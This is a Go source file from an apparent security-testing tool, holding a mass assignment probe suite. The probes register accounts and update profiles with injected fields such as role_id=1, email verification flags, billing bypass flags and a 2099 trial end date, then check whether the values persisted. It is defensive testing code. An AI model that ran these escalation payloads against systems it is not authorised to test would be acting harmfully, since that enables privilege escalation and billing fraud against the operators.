// Package massassignment provides Mass Assignment vulnerability testing
// against the registration and profile endpoints.
package massassignment

import (
	"context"
	"fmt"
	"net/http"
	"time"

	"go.uber.org/zap"

	"github.com/EcMarius/secprobe/pkg/attackconfig"
	"github.com/EcMarius/secprobe/pkg/defaults"
	"github.com/EcMarius/secprobe/pkg/finding"
	"github.com/EcMarius/secprobe/pkg/httpclient"
	"github.com/EcMarius/secprobe/pkg/probe"
	"github.com/EcMarius/secprobe/pkg/session"
	"github.com/EcMarius/secprobe/pkg/suite"
)

// SuiteName is the report key of this suite.
const SuiteName = "Mass Assignment Vulnerabilities"

// Config configures mass assignment testing
type Config struct {
	attackconfig.Base
}

// DefaultConfig returns sensible defaults
func DefaultConfig(target string) Config {
	return Config{Base: attackconfig.DefaultBase(target)}
}

// DangerousParam is a model attribute that must never be user-assignable.
type DangerousParam struct {
	Name     string
	Value    any
	Severity finding.Severity
	Category string
}

// DangerousParameters returns the attributes the probes try to assign.
func DangerousParameters() []DangerousParam {
	return []DangerousParam{
		{Name: "role_id", Value: 1, Severity: finding.Critical, Category: "role"},
		{Name: "verified", Value: 1, Severity: finding.High, Category: "verification"},
		{Name: "email_verified_at", Value: "now", Severity: finding.High, Category: "verification"},
		{Name: "bypass_campaign_sync_limit", Value: true, Severity: finding.High, Category: "billing"},
		{Name: "bypass_post_sync_limit", Value: true, Severity: finding.High, Category: "billing"},
		{Name: "bypass_ai_reply_limit", Value: true, Severity: finding.High, Category: "billing"},
		{Name: "trial_ends_at", Value: defaults.FarFuture, Severity: finding.High, Category: "billing"},
		{Name: "trial_activated_at", Value: nil, Severity: finding.Medium, Category: "billing"},
	}
}

// Tester runs the mass assignment probes.
type Tester struct {
	config Config
	log    *zap.Logger
}

// New creates a tester.
func New(config Config) *Tester {
	config.Validate()
	return &Tester{config: config, log: config.Logger.Named("massassignment")}
}

// Suite returns the probe sequence. The profile probe is included only when
// credentials or an existing session are configured.
func (t *Tester) Suite() *suite.Sequence {
	probes := []probe.Probe{
		probe.New("Admin Escalation (Registration)", t.adminEscalation),
		probe.New("Bypass Flags (Registration)", t.bypassFlags),
		probe.New("Trial Manipulation (Registration)", t.trialManipulation),
		probe.New("Email Verification Bypass", t.emailVerificationBypass),
	}
	if t.config.HasCredentials() {
		probes = append(probes, probe.New("Profile Update Escalation", t.profileEscalation))
	} else {
		t.log.Info("skipping profile update probe: no credentials configured")
	}
	return t.config.Sequence(SuiteName, probes...)
}

func accepted(out httpclient.Outcome) bool {
	return out.StatusIn(http.StatusOK, http.StatusCreated, http.StatusFound)
}

func verifiedAt() string {
	return time.Now().Format("2006-01-02 15:04:05")
}

func (t *Tester) newAccount(prefix string) session.Account {
	return session.NewAccount(prefix, "Mass Assign Test", t.config.RunTag)
}

func (t *Tester) adminEscalation(ctx context.Context) (bool, string) {
	acct := t.newAccount("mass-assign")
	out := t.config.Session.Register(ctx, acct, map[string]any{
		"role_id":           1,
		"verified":          1,
		"email_verified_at": verifiedAt(),
	})
	if !out.OK() {
		return false, "Error: " + out.Error()
	}
	if !accepted(out) {
		return false, "Registration rejected or failed"
	}
	confirmed := t.confirmAccount(ctx, acct, "role_id", 1)
	return true, probe.Qualify(
		fmt.Sprintf("Registration succeeded with role_id=1! Account: %s", acct.Email),
		confirmed, "role_id=1 persisted")
}

func (t *Tester) bypassFlags(ctx context.Context) (bool, string) {
	acct := t.newAccount("bypass-test")
	out := t.config.Session.Register(ctx, acct, map[string]any{
		"bypass_campaign_sync_limit": true,
		"bypass_post_sync_limit":     true,
		"bypass_ai_reply_limit":      true,
	})
	if !out.OK() {
		return false, "Error: " + out.Error()
	}
	if !accepted(out) {
		return false, "Bypass flags rejected"
	}
	confirmed := t.confirmAccount(ctx, acct, "bypass_ai_reply_limit", true)
	return true, probe.Qualify(
		fmt.Sprintf("Bypass flags accepted! Account: %s", acct.Email),
		confirmed, "bypass_ai_reply_limit persisted")
}

func (t *Tester) trialManipulation(ctx context.Context) (bool, string) {
	acct := t.newAccount("trial-test")
	out := t.config.Session.Register(ctx, acct, map[string]any{
		"trial_ends_at":      defaults.FarFuture,
		"trial_activated_at": nil,
	})
	if !out.OK() {
		return false, "Error: " + out.Error()
	}
	if !accepted(out) {
		return false, "Trial date manipulation rejected"
	}
	return true, probe.Qualify(
		fmt.Sprintf("Trial date accepted (2099)! Account: %s", acct.Email), false, "")
}

func (t *Tester) emailVerificationBypass(ctx context.Context) (bool, string) {
	attempts := []map[string]any{
		{"verified": 1},
		{"email_verified_at": verifiedAt()},
	}
	for _, extra := range attempts {
		out := t.config.Session.Register(ctx, t.newAccount("verify-bypass"), extra)
		if !out.OK() {
			t.log.Debug("verification bypass attempt failed", zap.String("reason", out.Error()))
			continue
		}
		if accepted(out) {
			return true, probe.Qualify("Email verification can be bypassed during registration!", false, "")
		}
	}
	return false, "Email verification bypass prevented"
}

func (t *Tester) profileEscalation(ctx context.Context) (bool, string) {
	cred, err := t.config.Session.Acquire(ctx, t.config.Email, t.config.Password)
	if err != nil {
		return false, "Could not authenticate: " + err.Error()
	}

	req := httpclient.JSON(http.MethodPut, t.config.URL(t.config.Routes.Profile), map[string]any{
		"role_id":                    1,
		"bypass_ai_reply_limit":      true,
		"bypass_campaign_sync_limit": true,
		"trial_ends_at":              "2099-12-31",
	})
	session.Apply(cred, req)
	out := t.config.Client.Do(ctx, req)
	if !out.OK() {
		return false, "Error: " + out.Error()
	}
	if !out.StatusIn(http.StatusOK, http.StatusCreated) {
		return false, "Profile update rejected"
	}
	confirmed := t.profileHas(ctx, cred, "role_id", 1)
	return true, probe.Qualify("Profile updated with escalated privileges!", confirmed, "role_id=1 persisted")
}

// confirmAccount logs in as a freshly registered account and checks whether
// field was stored with the injected value.
func (t *Tester) confirmAccount(ctx context.Context, acct session.Account, field string, want any) bool {
	token, err := t.config.Session.Login(ctx, acct.Email, acct.Password)
	if err != nil {
		t.log.Debug("confirmation login failed", zap.String("email", acct.Email), zap.Error(err))
		return false
	}
	return t.profileHas(ctx, session.Credential{Kind: session.KindToken, Token: token}, field, want)
}

func (t *Tester) profileHas(ctx context.Context, cred session.Credential, field string, want any) bool {
	req := httpclient.NewRequest(http.MethodGet, t.config.URL(t.config.Routes.Profile))
	req.Header.Set("Accept", defaults.ContentTypeJSON)
	session.Apply(cred, req)
	out := t.config.Client.Do(ctx, req)
	if out.Status() != http.StatusOK {
		return false
	}
	got, ok := out.Response.Parse().FieldIn(field, "data", "user")
	if !ok {
		return false
	}
	return fmt.Sprint(normalize(got)) == fmt.Sprint(normalize(want))
}

// normalize maps JSON numbers and booleans onto comparable forms; Laravel
// serialises boolean casts as true/false but raw columns as 0/1.
func normalize(v any) any {
	switch x := v.(type) {
	case float64:
		return int(x)
	case bool:
		if x {
			return 1
		}
		return 0
	default:
		return v
	}
}
